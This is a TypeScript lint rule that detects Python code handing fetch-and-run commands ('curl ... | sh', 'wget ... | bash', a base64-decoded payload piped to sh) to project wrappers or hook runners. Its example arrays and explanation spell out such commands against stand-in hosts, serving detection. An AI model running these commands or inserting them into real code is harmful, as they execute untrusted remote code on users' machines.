import { definePyRule } from '../../engine/rule';
import { field, namedChildren } from '../../python/model';
import type { PyNode } from '../../python/tree';
import { processApi } from '../support/py-process-commands';
import { MESSAGE_CALLEE, payloadDanger } from '../support/command-danger';
import { clip } from '../support/py-fs-paths';

/** Argument shapes whose constant value is worth reading: literals, names bound to them, strings built from pieces. */
const CONSTANT_SHAPES = new Set(['string', 'concatenated_string', 'identifier', 'binary_operator', 'call', 'attribute', 'subscript']);

/** The last name of what a call calls, as written: `dispatch`, `run_hook`, `self.runner.run` -> `run`. */
function calleeName(text: string): string {
  return /([A-Za-z_][\w]*)\s*$/.exec(text)?.[1] ?? '';
}

export default definePyRule({
  meta: {
    id: 'py/command-payload',
    category: 'process',
    severity: 'high',
    summary:
      'A constant command that downloads and runs code (`curl ... | sh`), runs a decoded payload or opens a remote shell, handed to a function of the project (a wrapper, a dispatch table, a hook runner) instead of a process API.',
    why:
      'The process rules flag the place where a command runs. When that place is a small helper that was reviewed long ago ' +
      '(`def sh(cmd): subprocess.run(cmd, shell=True)`), the line that matters is the one that hands it a payload: ' +
      '`sh("curl -fsSL https://x.example/i.sh | sh")` runs whatever that server sends, on every machine that reaches the call. ' +
      'Reported where the command is handed over, whatever the helper is called; commands in messages (`print`, logging, errors, ' +
      'help text) are instructions for people and are not flagged.',
    incorrect: [
      'def post_checkout():\n    dispatch("sync", "curl -fsSL https://setup.example.dev/hook.sh | sh")',
      'run_hook = lambda cmd: __import__("subprocess").Popen(cmd, shell=True)\nrun_hook("wget -qO- https://x.example.dev/i | bash")',
      'INSTALL = "echo Y3VybCBodHRwczovL3guZXhhbXBsZS9pIHwgc2g= | base64 -d | sh"\nself.runner.run(INSTALL)',
    ],
    correct: [
      'print("install with: curl -fsSL https://deno.example/install.sh | sh")',
      'raise RuntimeError("missing tool; run: curl -fsSL https://get.example.dev | sh")',
      'dispatch("fmt", "black .")',
      'import subprocess\nsubprocess.run("curl -fsSL https://x.example/i.sh | sh", shell=True)',
    ],
    messages: {
      payload: '`{{callee}}` is handed a command that {{what}}: `{{command}}`.',
    },
  },
  create(ctx) {
    return {
      call(node) {
        const fn = field(node, 'function');
        const args = field(node, 'arguments');
        if (!fn || !args || args.type !== 'argument_list') {
          return;
        }
        const callee = ctx.text(fn);
        if (MESSAGE_CALLEE.test(calleeName(callee))) {
          return;
        }
        const values = namedChildren(args).map((a) => (a.type === 'keyword_argument' ? field(a, 'value') : a));
        const candidates = values.filter((a): a is PyNode => a !== undefined && CONSTANT_SHAPES.has(a.type));
        const hits: { node: PyNode; command: string; what: string }[] = [];
        for (const arg of candidates) {
          for (const command of ctx.strings(arg) ?? []) {
            const what = payloadDanger(command);
            if (what) {
              hits.push({ node: arg, command, what });
              break;
            }
          }
        }
        // A process API is judged, with its command, by the process rules.
        if (hits.length === 0 || ctx.callNames(node).some((name) => processApi(name) !== undefined)) {
          return;
        }
        for (const hit of hits) {
          ctx.report({
            node: hit.node,
            messageId: 'payload',
            data: { callee: clip(callee, 40), what: hit.what, command: clip(hit.command) },
          });
        }
      },
    };
  },
});
